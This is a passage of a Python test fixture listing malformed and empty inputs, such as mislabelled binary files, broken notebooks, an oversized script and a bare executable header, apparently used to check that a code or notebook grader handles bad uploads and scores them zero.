    ("binary.py", b"\x89PNG\r\n\xff\xfe" * 100, 0),
    ("empty.ipynb", b"", 0),
    ("list.ipynb", b"[1, 2]", 0),
    ("cells are a text.ipynb", b'{"cells": "def f(): pass"}', 0),
    ("long code.py", b"x = 1\n" * 500_000, 0),
    ("program.exe", b"MZ", 0),
)
# Readable, and worth nothing.
EMPTY_FILES = (
    ("no cells.ipynb", b'{"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}'),
    ("nothing.py", b""),
    ("strange cells.ipynb", b'{"cells": [null, 5, [], {"cell_type": "code"}, {"cell_type": "code", "source": {"a": [1]}},'
                            b' {"cell_type": ["code"], "source": "1"}, {"cell_type": "code", "source": ["a", 1, null]}]}'),
)
